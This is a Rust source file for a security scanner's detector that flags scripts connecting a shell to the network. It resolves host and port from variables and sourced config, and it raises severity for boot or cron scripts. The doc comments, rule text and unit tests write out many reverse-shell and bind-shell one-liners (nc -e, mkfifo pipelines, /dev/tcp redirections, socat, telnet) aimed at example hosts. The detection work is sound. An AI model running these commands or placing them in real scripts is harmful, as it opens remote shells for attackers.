//! Scripts that connect a shell to the network: reverse shells (`nc HOST PORT -e /bin/sh`,
//! `sh -i 2>&1 | nc HOST PORT`, `mkfifo` pipelines, `/dev/tcp/HOST/PORT` redirections,
//! `socat exec:/bin/sh tcp:HOST:PORT`, `telnet HOST P1 | /bin/sh | telnet HOST P2`, their
//! busybox forms) and shells handed to whoever connects (`nc -l -p PORT -e /bin/sh`,
//! `socat tcp-listen:PORT exec:/bin/sh`).
//!
//! Host and port are resolved through the script's own assignments and the configuration
//! files it sources (`. /etc/x.conf`), and the boot model says whether the script runs at
//! boot or from cron: critical when it does, high otherwise.

use crate::boot::{
    boot_model, expand_vars, lines, program_of, shell_words, split_commands, strip_comment, Trigger,
};
use crate::detectors::text::looks_like_text;
use crate::{Analysis, Detector, Rule};
use assay_model::{Category, Confidence, NodeId, Severity};
use std::collections::BTreeMap;

/// Largest text file read as a script.
const MAX_SCRIPT: usize = 1 << 20;

/// How many sourced files one script may pull variables from.
const MAX_SOURCED: usize = 16;

const SCRIPT_SHELL: Rule = Rule {
    id: "ASSAY-BACKDOOR-030",
    category: Category::Backdoor,
    severity: Severity::High,
    title: "Script connects a shell to the network",
    description: "A script runs a shell whose input and output are a network connection: a \
        reverse shell to a host (`nc HOST PORT -e /bin/sh`, `sh -i | nc`, a `mkfifo` pipeline, \
        a `/dev/tcp/HOST/PORT` redirection, `socat exec:/bin/sh tcp:HOST:PORT`, `telnet | sh | \
        telnet`) or a shell handed to whoever connects (`nc -l -p PORT -e /bin/sh`, `socat \
        tcp-listen:PORT exec:/bin/sh`). Host and port are resolved through the script's \
        variables and the files it sources. Critical when a boot script or crontab runs it, \
        high otherwise.",
};

/// The reverse-shell detector.
pub struct ReverseShell;

impl Detector for ReverseShell {
    fn name(&self) -> &'static str {
        "reverse-shell"
    }

    fn rules(&self) -> &'static [Rule] {
        std::slice::from_ref(&SCRIPT_SHELL)
    }

    fn run(&self, a: &Analysis, out: &mut crate::FindingSink) {
        let mut runs: BTreeMap<NodeId, (Trigger, String)> = BTreeMap::new();
        for fs in 0..a.filesystems.len() {
            let model = boot_model(a, fs);
            for (path, by) in &model.boot_scripts {
                if let Some((_, id, _)) = a.read_nested(fs, path) {
                    runs.entry(id).or_insert((Trigger::Boot, by.clone()));
                }
            }
            for c in &model.commands {
                if c.trigger == Trigger::Cron {
                    runs.entry(c.node)
                        .or_insert((Trigger::Cron, c.started_by.clone()));
                }
            }
        }
        for file in a.files() {
            if file.node.duplicate_of.is_some()
                || file.bytes.len() > MAX_SCRIPT
                || file.bytes.starts_with(b"\x7fELF")
                || !looks_like_text(file.bytes)
            {
                continue;
            }
            // Cheap filter: every shape names one of these.
            let b = file.bytes;
            let any = |n: &[u8]| memchr::memmem::find(b, n).is_some();
            if !(any(b"nc")
                || any(b"socat")
                || any(b"/dev/tcp")
                || any(b"/dev/udp")
                || any(b"telnet"))
            {
                continue;
            }
            scan_script(a, file.node.id, file.fs, b, runs.get(&file.node.id), out);
        }
    }
}

/// A shell connected to the network, as read from one command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellConnection {
    /// The shape: `nc -e`, `pipeline`, `/dev/tcp`, `socat`.
    pub shape: &'static str,
    /// Host connected to (`None` for a listening shell or when not written).
    pub host: Option<String>,
    /// Port connected to or listened on.
    pub port: Option<String>,
    /// Whether the shell waits for connections rather than connecting out.
    pub listens: bool,
}

fn scan_script(
    a: &Analysis,
    node: NodeId,
    fs: Option<usize>,
    bytes: &[u8],
    runs: Option<&(Trigger, String)>,
    out: &mut crate::FindingSink,
) {
    let mut vars: BTreeMap<String, String> = BTreeMap::new();
    let mut sourced = 0usize;
    for line in lines(bytes) {
        let text = strip_comment(line.text).trim();
        if text.is_empty() {
            continue;
        }
        let expanded = expand_vars(text, &vars);
        // Assignments and sourced configuration feed later lines.
        for (_, cmd) in split_commands(&expanded) {
            let cmd = cmd.trim();
            if let Some((k, v)) = simple_assignment(cmd) {
                vars.insert(k, v);
                continue;
            }
            let words = shell_words(cmd);
            if let (Some(first), Some(path), Some(fs)) = (words.first(), words.get(1), fs) {
                if (first == "." || first == "source") && sourced < MAX_SOURCED {
                    sourced += 1;
                    if let Some((_, _, conf)) = a.read_nested(fs, path) {
                        if conf.len() <= MAX_SCRIPT {
                            for l in lines(conf) {
                                if let Some((k, v)) =
                                    simple_assignment(strip_comment(l.text).trim())
                                {
                                    vars.entry(k).or_insert(v);
                                }
                            }
                        }
                    }
                }
            }
        }
        let Some(conn) = shell_connection(&expanded) else {
            continue;
        };
        let target = match (&conn.host, &conn.port, conn.listens) {
            (_, Some(p), true) => format!("to whoever connects on port {p}"),
            (_, None, true) => "to whoever connects".to_string(),
            (Some(h), Some(p), false) => format!("to {h}:{p}"),
            (Some(h), None, false) => format!("to {h}"),
            (None, _, false) => "to a host".to_string(),
        };
        let mut f = a.finding(
            &SCRIPT_SHELL,
            node,
            line.range.clone(),
            format!("Script hands a shell {target} ({})", conn.shape),
        );
        f.confidence = Confidence::High;
        f.context.insert("shape".into(), conn.shape.into());
        f.context.insert("line".into(), line.number.to_string());
        if expanded != text {
            f.context.insert("resolved".into(), expanded.clone());
        }
        if let Some(h) = &conn.host {
            f.context.insert("host".into(), h.clone());
        }
        if let Some(p) = &conn.port {
            f.context.insert("port".into(), p.clone());
        }
        f.context.insert(
            "direction".into(),
            if conn.listens { "bind" } else { "reverse" }.into(),
        );
        match runs {
            Some((trigger, by)) => {
                f.severity = Severity::Critical;
                f.context.insert("runs".into(), trigger.as_str().into());
                f.context.insert("started_by".into(), by.clone());
            }
            None => {
                f.context
                    .insert("runs".into(), "not started by the boot model".into());
            }
        }
        out.push(f);
    }
}

/// `NAME=value` (optionally `export`ed) with a literal value.
fn simple_assignment(cmd: &str) -> Option<(String, String)> {
    let cmd = cmd.strip_prefix("export ").unwrap_or(cmd).trim();
    let (name, value) = cmd.split_once('=')?;
    if name.is_empty()
        || name.starts_with(|c: char| c.is_ascii_digit())
        || !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    {
        return None;
    }
    let words = shell_words(value);
    if words.len() > 1 {
        return None;
    }
    Some((
        name.to_string(),
        words.into_iter().next().unwrap_or_default(),
    ))
}

fn is_shell(program: &str) -> bool {
    matches!(
        program,
        "sh" | "ash" | "bash" | "dash" | "ksh" | "zsh" | "hush"
    )
}

fn is_shell_path(word: &str) -> bool {
    let base = word.rsplit('/').next().unwrap_or(word);
    is_shell(base.split_whitespace().next().unwrap_or(""))
}

/// A shell connected to the network on this (expanded) command line, if any.
pub fn shell_connection(line: &str) -> Option<ShellConnection> {
    let commands: Vec<Vec<String>> = split_commands(line)
        .into_iter()
        .map(|(_, c)| shell_words(c))
        .collect();
    let programs: Vec<Option<(String, usize)>> = commands.iter().map(|w| program_of(w)).collect();
    let runs_shell = programs.iter().flatten().any(|(p, _)| is_shell(p.as_str()));
    for (words, prog) in commands.iter().zip(&programs) {
        let Some((p, rest)) = prog else { continue };
        let args = words.get(*rest..).unwrap_or(&[]);
        match p.as_str() {
            "nc" | "netcat" | "ncat" => {
                if let Some(c) = netcat(args, runs_shell) {
                    return Some(c);
                }
            }
            "telnet" if runs_shell => {
                let (host, port) = host_port(args, &[]);
                if host.is_some() {
                    return Some(ShellConnection {
                        shape: "pipeline",
                        host,
                        port,
                        listens: false,
                    });
                }
            }
            "socat" => {
                if let Some(c) = socat(args) {
                    return Some(c);
                }
            }
            _ => {}
        }
    }
    dev_tcp(line, runs_shell || line.contains("exec "))
}

/// `nc … -e /bin/sh`, `nc -c sh`, or nc as one end of a pipeline with a shell in it.
fn netcat(args: &[String], runs_shell: bool) -> Option<ShellConnection> {
    let mut exec = None;
    let mut listens = false;
    let mut listen_port = None;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "-e" || a == "-c" {
            exec = args.get(i + 1).cloned();
            i += 2;
            continue;
        }
        if let Some(x) = a.strip_prefix("-e").filter(|x| x.starts_with('/')) {
            exec = Some(x.to_string());
        }
        if a.starts_with('-') && !a.starts_with("--") && a.contains('l') && !a.contains('e') {
            listens = true;
        }
        if a == "-p" {
            listen_port = args.get(i + 1).cloned();
            i += 2;
            continue;
        }
        if let Some(p) = a.strip_prefix("-lp").or_else(|| a.strip_prefix("-lnp")) {
            listens = true;
            if !p.is_empty() {
                listen_port = Some(p.to_string());
            } else {
                listen_port = args.get(i + 1).cloned();
                i += 1;
            }
        }
        i += 1;
    }
    let shell_exec = exec.as_deref().is_some_and(is_shell_path);
    if !shell_exec && !runs_shell {
        return None;
    }
    let (host, port) = host_port(args, &["-e", "-c", "-p", "-w", "-s", "-q", "-i"]);
    if listens {
        return Some(ShellConnection {
            shape: if shell_exec { "nc -e" } else { "pipeline" },
            host: None,
            port: listen_port.or(port),
            listens: true,
        });
    }
    host.as_ref()?;
    Some(ShellConnection {
        shape: if shell_exec { "nc -e" } else { "pipeline" },
        host,
        port,
        listens: false,
    })
}

/// The first two positional arguments (host, port), skipping options and the values of
/// `with_value` options.
fn host_port(args: &[String], with_value: &[&str]) -> (Option<String>, Option<String>) {
    let mut pos = Vec::new();
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if with_value.contains(&a) {
            i += 2;
            continue;
        }
        if a.starts_with('-') || a.starts_with('>') || a.starts_with('<') || a.contains(">") {
            i += 1;
            continue;
        }
        pos.push(a.to_string());
        i += 1;
    }
    let host = pos.first().cloned();
    let port = pos.get(1).filter(|p| is_port(p)).cloned();
    (host, port)
}

fn is_port(p: &str) -> bool {
    !p.is_empty() && p.len() <= 5 && p.chars().all(|c| c.is_ascii_digit()) || p.starts_with('$')
}

/// `socat exec:/bin/sh tcp:HOST:PORT` (reverse) or `socat tcp-listen:PORT exec:/bin/sh`.
fn socat(args: &[String]) -> Option<ShellConnection> {
    let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
    let shell = lower.iter().any(|a| {
        (a.starts_with("exec:") || a.starts_with("system:"))
            && a.split([':', ',', ' ']).nth(1).is_some_and(is_shell_path)
    });
    if !shell {
        return None;
    }
    for a in &lower {
        let mut parts = a.split(',').next().unwrap_or("").split(':');
        let kind = parts.next().unwrap_or("");
        match kind {
            "tcp-listen" | "tcp4-listen" | "tcp6-listen" | "udp-listen" | "openssl-listen" => {
                return Some(ShellConnection {
                    shape: "socat",
                    host: None,
                    port: parts.next().map(str::to_string),
                    listens: true,
                });
            }
            "tcp" | "tcp4" | "tcp6" | "tcp-connect" | "udp" | "udp4" | "openssl"
            | "openssl-connect" => {
                return Some(ShellConnection {
                    shape: "socat",
                    host: parts.next().map(str::to_string),
                    port: parts.next().map(str::to_string),
                    listens: false,
                });
            }
            _ => {}
        }
    }
    None
}

/// `sh -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/HOST/PORT`.
fn dev_tcp(line: &str, shell_or_exec: bool) -> Option<ShellConnection> {
    if !shell_or_exec {
        return None;
    }
    let at = line.find("/dev/tcp/").or_else(|| line.find("/dev/udp/"))?;
    let rest = line.get(at + 9..)?;
    let end = rest
        .find(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\'' | ')' | '<' | '>')
        })
        .unwrap_or(rest.len());
    let mut parts = rest[..end].splitn(2, '/');
    let host = parts.next().filter(|h| !h.is_empty()).map(str::to_string);
    let port = parts.next().filter(|p| !p.is_empty()).map(str::to_string);
    host.as_ref()?;
    Some(ShellConnection {
        shape: "/dev/tcp",
        host,
        port,
        listens: false,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::{tree, TestEntry::*};

    fn conn(line: &str) -> Option<(Option<String>, Option<String>, bool, &'static str)> {
        shell_connection(line).map(|c| (c.host, c.port, c.listens, c.shape))
    }

    fn s(x: &str) -> Option<String> {
        Some(x.to_string())
    }

    #[test]
    fn every_shape_is_read_with_host_and_port() {
        assert_eq!(
            conn("nc 198.51.100.7 4444 -e /bin/sh &"),
            Some((s("198.51.100.7"), s("4444"), false, "nc -e"))
        );
        assert_eq!(
            conn("busybox nc -e /bin/ash 198.51.100.7 4444"),
            Some((s("198.51.100.7"), s("4444"), false, "nc -e"))
        );
        assert_eq!(
            conn("nc -l -p 2323 -e /bin/sh"),
            Some((None, s("2323"), true, "nc -e"))
        );
        assert_eq!(
            conn("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc c2.example.net 443 >/tmp/f"),
            Some((s("c2.example.net"), s("443"), false, "pipeline"))
        );
        assert_eq!(
            conn("sh -i >& /dev/tcp/203.0.113.9/8081 0>&1"),
            Some((s("203.0.113.9"), s("8081"), false, "/dev/tcp"))
        );
        assert_eq!(
            conn("exec 5<>/dev/tcp/203.0.113.9/53"),
            Some((s("203.0.113.9"), s("53"), false, "/dev/tcp"))
        );
        assert_eq!(
            conn("socat exec:'/bin/sh -li',pty,stderr tcp:203.0.113.9:9001"),
            Some((s("203.0.113.9"), s("9001"), false, "socat"))
        );
        assert_eq!(
            conn("socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/sh"),
            Some((None, s("1337"), true, "socat"))
        );
        assert_eq!(
            conn("telnet 203.0.113.9 4000 | /bin/sh | telnet 203.0.113.9 4001"),
            Some((s("203.0.113.9"), s("4000"), false, "pipeline"))
        );
    }

    #[test]
    fn ordinary_network_commands_are_no_shells() {
        for line in [
            "nc -z 192.0.2.1 80 && echo up",
            "echo stats | nc 127.0.0.1 11211",
            "telnet 192.0.2.1 23",
            "socat tcp-listen:8080,fork tcp:127.0.0.1:80",
            "sh -c 'echo hi' > /dev/null",
            "cat /proc/net/tcp",
        ] {
            assert_eq!(conn(line), None, "{line}");
        }
    }

    #[test]
    fn host_and_port_come_from_variables_and_sourced_files_and_boot_raises_it() {
        let t = tree(&[
            File("/etc/inittab", b"::sysinit:/etc/init.d/rcS\n", 0o644),
            File("/etc/init.d/rcS", b"#!/bin/sh\n/usr/sbin/support.sh &\n", 0o755),
            File("/etc/support.conf", b"# remote support\nSUPPORT_HOST=\"support.example.org\"\nSUPPORT_PORT=7001\n", 0o644),
            File(
                "/usr/sbin/support.sh",
                b"#!/bin/sh\n. /etc/support.conf\nSH=/bin/sh\nwhile true; do\n  nc $SUPPORT_HOST ${SUPPORT_PORT} -e $SH\n  sleep 60\ndone\n",
                0o755,
            ),
            File("/usr/bin/diag.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.44/9999 0>&1\n", 0o755),
            File("/usr/bin/health.sh", b"#!/bin/sh\nnc -z 192.0.2.1 80 || reboot\n", 0o755),
        ]);
        let a = Analysis::new(&t);
        let mut out = crate::FindingSink::new();
        ReverseShell.run(&a, &mut out);
        assert_eq!(out.len(), 2, "{out:#?}");
        let support = out
            .iter()
            .find(|f| f.path == "/usr/sbin/support.sh")
            .expect("support");
        assert_eq!(support.severity, Severity::Critical);
        assert_eq!(support.context["host"], "support.example.org");
        assert_eq!(support.context["port"], "7001");
        assert_eq!(support.context["started_by"], "/etc/init.d/rcS");
        assert_eq!(
            support.evidence,
            "  nc $SUPPORT_HOST ${SUPPORT_PORT} -e $SH"
        );
        let diag = out
            .iter()
            .find(|f| f.path == "/usr/bin/diag.sh")
            .expect("diag");
        assert_eq!(diag.severity, Severity::High);
        assert_eq!(diag.context["direction"], "reverse");
    }
}
